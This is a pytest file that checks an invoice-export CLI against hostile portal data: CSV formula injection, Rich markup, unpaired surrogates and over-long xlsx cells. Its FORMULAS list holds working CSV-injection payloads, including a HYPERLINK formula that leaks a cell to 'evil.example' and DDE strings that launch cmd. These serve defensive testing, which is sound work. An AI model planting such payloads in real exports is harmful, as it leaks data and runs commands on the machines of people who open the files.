"""What people open is neutralised, with hostile invoices seeded through the mock portal (issue 27): CSV cells
that start like a formula, Rich markup in portal text, unpaired surrogates, and a text too long for an xlsx
cell. What reaches a real terminal is in test_terminal_escapes.py."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import openpyxl  # type: ignore[import-untyped]
import pytest
from typer.testing import Result

from onlyoffice_crm_cli import ExitCode
from onlyoffice_mock_portal import MockPortal

from .conftest import invoke

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
MARKUP_NUMBER = "[link=http://evil.example]Pay here[/link]"
SURROGATE_LINE = "Replaced 1 unpaired surrogate"
LONG = 40_000


def env_of(portal: MockPortal) -> dict[str, str]:
    return {"ONLYOFFICE_URL": portal.url, "ONLYOFFICE_TOKEN": portal.token}


def run(portal: MockPortal, *args: str) -> Result:
    return invoke(*args, env=env_of(portal))


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


# ---------------------------------------------------------------- CSV injection


def test_an_export_quotes_formula_like_text_cells_and_leaves_number_cells_alone(
    onlyoffice_portal: MockPortal,
) -> None:
    onlyoffice_portal.set_invoices(
        onlyoffice_portal.invoice(number=f"F-{index}", contact=text, description=text, cost=-12.5)
        for index, text in enumerate(FORMULAS)
    )
    columns = "number,contact,contact_id,description,amount"

    guarded = run(onlyoffice_portal, "invoices", "export", "--columns", columns)
    plain = run(onlyoffice_portal, "invoices", "export", "--columns", columns, "--no-formula-guard")

    assert guarded.exit_code == 0, guarded.output
    rows = csv_rows(guarded.stdout)
    assert [row["contact"] for row in rows] == ["'" + text for text in FORMULAS]
    assert [row["description"] for row in rows] == ["'" + text for text in FORMULAS]
    assert {row["amount"] for row in rows} == {"-12.50"}  # a negative amount is a number: no quote
    assert all(row["contact_id"].isdigit() for row in rows)
    assert [row["number"] for row in rows] == [f"F-{index}" for index in range(len(FORMULAS))]
    assert plain.exit_code == 0, plain.output
    assert [row["contact"] for row in csv_rows(plain.stdout)] == FORMULAS


def test_totals_as_csv_quote_a_contact_name_that_starts_like_a_formula(onlyoffice_portal: MockPortal) -> None:
    onlyoffice_portal.set_invoices([onlyoffice_portal.invoice(contact=FORMULAS[0], cost=10)])

    result = run(onlyoffice_portal, "invoices", "totals", "--by", "contact", "--format", "csv")
    plain = run(onlyoffice_portal, "invoices", "totals", "--by", "contact", "--format", "csv", "--no-formula-guard")

    assert result.exit_code == 0, result.output
    assert csv_rows(result.stdout)[0]["contact"] == "'" + FORMULAS[0]
    assert csv_rows(result.stdout)[0]["amount"] == "10.00"
    assert csv_rows(plain.stdout)[0]["contact"] == FORMULAS[0]


def test_xlsx_keeps_formula_like_text_as_text(onlyoffice_portal: MockPortal, tmp_path: Path) -> None:
    onlyoffice_portal.set_invoices([onlyoffice_portal.invoice(contact=FORMULAS[0])])
    target = tmp_path / "out.xlsx"

    result = run(onlyoffice_portal, "invoices", "export", "--columns", "contact", "-o", str(target))

    assert result.exit_code == 0, result.output
    sheet = openpyxl.load_workbook(target).active
    assert sheet["A2"].value == FORMULAS[0]
    assert sheet["A2"].data_type == "s"  # a string cell, not a formula


# ---------------------------------------------------------------- portal text is never Rich markup


def hostile_status(title: str) -> dict[str, Any]:
    return {"id": 2, "title": title}


def hostile_currency(code: str) -> dict[str, Any]:
    return {"title": code, "symbol": code, "abbreviation": code, "cultureName": "", "isConvertable": True,
            "isBasic": False}  # fmt: skip


def test_list_shows_markup_in_numbers_statuses_and_currencies_as_the_text_it_is(onlyoffice_portal: MockPortal) -> None:
    onlyoffice_portal.set_invoices(
        [
            onlyoffice_portal.invoice(number=MARKUP_NUMBER),
            onlyoffice_portal.invoice(number="[/bold]", status=hostile_status("[/bold]")),
            onlyoffice_portal.invoice(currency=hostile_currency("[/bold]"), contact="[/]"),
        ]
    )

    result = run(onlyoffice_portal, "invoices", "list")

    assert result.exit_code == 0, result.output
    assert MARKUP_NUMBER in result.stdout
    assert result.stdout.count("[/bold]") == 3
    assert "[/] #" in result.stdout


@pytest.mark.parametrize(
    ("by", "record", "shown"),
    [
        ("contact", {"contact": "[/]"}, "[/]"),
        ("status", {"status": hostile_status("[/bold]")}, "[/bold]"),
        ("currency", {"currency": hostile_currency("[/bold]")}, "[/bold]"),
    ],
)
def test_totals_show_markup_in_a_group_or_currency_as_the_text_it_is(
    onlyoffice_portal: MockPortal, by: str, record: dict[str, Any], shown: str
) -> None:
    onlyoffice_portal.set_invoices([onlyoffice_portal.invoice(**record), onlyoffice_portal.invoice()])

    result = run(onlyoffice_portal, "invoices", "totals", "--by", by)

    assert result.exit_code == 0, result.output
    assert shown in result.stdout


def test_a_currency_in_markup_is_text_in_the_month_chart(onlyoffice_portal: MockPortal) -> None:
    onlyoffice_portal.set_invoices([onlyoffice_portal.invoice(currency=hostile_currency("[/bold]"))])

    result = run(onlyoffice_portal, "invoices", "totals", "--by", "month", "--chart")

    assert result.exit_code == 0, result.output
    assert "Invoiced per month, [/bold]" in result.stdout


# ---------------------------------------------------------------- unpaired surrogates


def read_xlsx(path: Path) -> list[tuple[Any, ...]]:
    return list(openpyxl.load_workbook(path, read_only=True).active.iter_rows(values_only=True))


SURROGATE_COMMANDS: dict[str, tuple[str, ...]] = {
    "csv": ("invoices", "export", "--columns", "number,contact"),
    "json": ("invoices", "export", "-f", "json", "--columns", "number,contact"),
    "jsonl": ("invoices", "export", "-f", "jsonl", "--columns", "number,contact"),
    "xlsx": ("invoices", "export", "--columns", "number,contact", "-o", "{folder}/out.xlsx"),
    "list": ("invoices", "list"),
    "totals": ("invoices", "totals", "--by", "contact"),
    "totals csv": ("invoices", "totals", "--by", "contact", "--format", "csv"),
}


@pytest.mark.parametrize("command", list(SURROGATE_COMMANDS))
def test_an_unpaired_surrogate_becomes_a_replacement_character_and_stderr_says_so(
    onlyoffice_portal: MockPortal, tmp_path: Path, command: str
) -> None:
    onlyoffice_portal.set_invoices([onlyoffice_portal.invoice(number="S-1", contact="Ac\ud800me")])
    args = [arg.format(folder=tmp_path) for arg in SURROGATE_COMMANDS[command]]

    result = run(onlyoffice_portal, *args)

    assert result.exit_code == 0, result.output
    assert result.stderr.count(SURROGATE_LINE) == 1
    assert [line for line in result.stderr.splitlines() if line.startswith("Replaced")] == [
        "Replaced 1 unpaired surrogate (half a UTF-16 pair, which the portal sent and no UTF-8 text can hold) "
        "with U+FFFD."
    ]
    if command == "xlsx":
        assert read_xlsx(tmp_path / "out.xlsx")[1] == ("S-1", "Ac\ufffdme")
    elif command.startswith("json"):
        first = json.loads(result.stdout)[0] if command == "json" else json.loads(result.stdout.splitlines()[0])
        assert first["contact"] == "Ac\ufffdme"
    else:
        assert "Ac\ufffdme" in result.stdout


def test_text_without_surrogates_adds_no_line(onlyoffice_portal: MockPortal) -> None:
    onlyoffice_portal.set_invoices([onlyoffice_portal.invoice(contact="Acme 😀")])
    result = run(onlyoffice_portal, "invoices", "export", "--columns", "contact")
    assert result.exit_code == 0, result.output
    assert result.stderr == ""
    assert "Acme 😀" in result.stdout


# ---------------------------------------------------------------- a text too long for an xlsx cell


def test_a_text_too_long_for_an_xlsx_cell_is_refused_naming_the_invoice_and_the_field(
    onlyoffice_portal: MockPortal, tmp_path: Path
) -> None:
    onlyoffice_portal.set_invoices(
        [onlyoffice_portal.invoice(number="L-1"), onlyoffice_portal.invoice(number="L-2", description="d" * LONG)]
    )
    target = tmp_path / "long.xlsx"

    result = run(onlyoffice_portal, "invoices", "export", "--columns", "number,description", "-o", str(target))

    assert result.exit_code == ExitCode.FAILED, result.output
    assert result.stderr.count("\n") == 1
    assert result.stderr.startswith("Error: invoice L-2 (id 2): its description has 40,000 characters, more than")
    assert "--split-long-cells" in result.stderr
    assert list(tmp_path.iterdir()) == []  # no file, no temporary file


def test_split_long_cells_continues_the_text_in_the_rows_below_and_warns(
    onlyoffice_portal: MockPortal, tmp_path: Path
) -> None:
    text = "".join(chr(0x61 + index % 26) for index in range(LONG))
    onlyoffice_portal.set_invoices(
        [onlyoffice_portal.invoice(number="L-1", description=text), onlyoffice_portal.invoice(number="L-2")]
    )
    target = tmp_path / "long.xlsx"

    result = run(
        onlyoffice_portal, "invoices", "export", "--columns", "number,description", "-o", str(target),
        "--split-long-cells",
    )  # fmt: skip

    assert result.exit_code == 0, result.output
    warning, wrote = result.stderr.splitlines()
    assert warning.startswith("Warning: 1 cell longer than an xlsx cell holds (32,767 characters) continue")
    assert "description of invoice L-1 (id 1)" in warning
    assert wrote == f"Wrote 2 invoices to {target}."
    rows = read_xlsx(target)[1:]
    assert [row[0] for row in rows] == ["L-1", None, "L-2"]
    assert rows[0][1] + rows[1][1] == text


def test_split_long_cells_is_for_xlsx_only(onlyoffice_portal: MockPortal) -> None:
    result = run(onlyoffice_portal, "invoices", "export", "-f", "csv", "--split-long-cells")
    assert result.exit_code == ExitCode.USAGE
    assert result.stderr == "Error: --split-long-cells is for xlsx (csv holds text of any length): leave it out.\n"
